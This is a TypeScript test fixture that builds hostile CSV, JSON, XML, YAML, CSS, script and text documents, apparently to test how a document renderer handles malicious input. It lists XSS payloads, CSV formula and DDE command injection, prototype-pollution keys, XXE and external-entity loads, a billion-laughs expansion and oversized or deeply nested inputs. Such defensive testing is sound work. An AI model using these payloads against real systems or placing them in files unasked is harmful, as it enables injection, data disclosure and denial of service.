import type { RawDocument } from '../../src/testing/servers/rawDocuments.ts'
import { payloads, type Hostile } from './payload.ts'

export function textPayloads({ origin: o, mark: m }: Hostile): RawDocument[] {
  return [
    ...payloads('csv', 'text/csv', [
      `a,b\n<script>${m}</script>,"<img src=x onerror=""${m}"">"`,
      `=HYPERLINK("${o}/h"),@SUM(1),+cmd|' /C calc'!A0\n-1,\t=1,\u00a0=2`,
      `__proto__,constructor,toString\n1,2,3\n4,5,6`,
      `"never closed,${'x,'.repeat(10_000)}`,
      `${'a,'.repeat(3_000)}\n${'1,'.repeat(3_000)}\n`,
      `${'"'.repeat(20_001)},b\n`,
      `<b>head</b>,\u202Eevil,a\u0000b\nx,y,z\n1\n1,2,3,4,5`,
      ',\n'.repeat(5_000),
    ]),
    ...payloads('tsv', 'text/tab-separated-values', [`a\tb\n<script>${m}</script>\t${o}/x.png`]),
    ...payloads('json', 'application/json', [
      `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`,
      `{"a":"<script>${m}</script>","b":"</script><img src=x onerror=${m}>","url":"javascript:${m}"}`,
      `{"id":9007199254740993,"e":1E400,"k":1,"k":2}`,
      '['.repeat(100_000),
      `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
      `{"a":"${'\\u202e'.repeat(100)}","b":"\ud800"}`,
      `{"${o}/p.png":"${'x'.repeat(200_000)}"}`,
      '{"a":',
    ]),
    ...payloads('ndjson', 'application/x-ndjson', [`{"a":1}\nnot json\n{"__proto__":1}\n<script>${m}</script>`]),
    ...payloads('xml', 'application/xml', [
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${o}/x.xsl"?><a/>`,
      `<!DOCTYPE a [<!ENTITY x SYSTEM "${o}/xxe">]><a>&x;</a>`,
      `<!DOCTYPE a SYSTEM "${o}/a.dtd"><a/>`,
      `<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${m}</h:script><h:img src="${o}/p.png"/></a>`,
      `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>`,
      `<a>${'<b>'.repeat(20_000)}`,
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${o}/xi"/>`,
    ]),
    ...payloads('code', 'text/javascript', [`${m}\nimport '${o}/x.js'`]),
    ...payloads('css', 'text/css', [`@import "${o}/a.css";body{background:url(${o}/b.png)}`]),
    ...payloads('yaml', 'application/yaml', [
      `a: &a [x]\nb: [*a,*a]\nc: !!js/function 'function(){${m}}'\nd: <script>${m}</script>`,
    ]),
    ...payloads('plain', 'text/plain', [
      `<script>${m}</script> ${o}/p.png \u202E\u0000\u001b[31m`,
      'a\u0300'.repeat(20_000),
      'x'.repeat(500_000),
    ]),
  ]
}
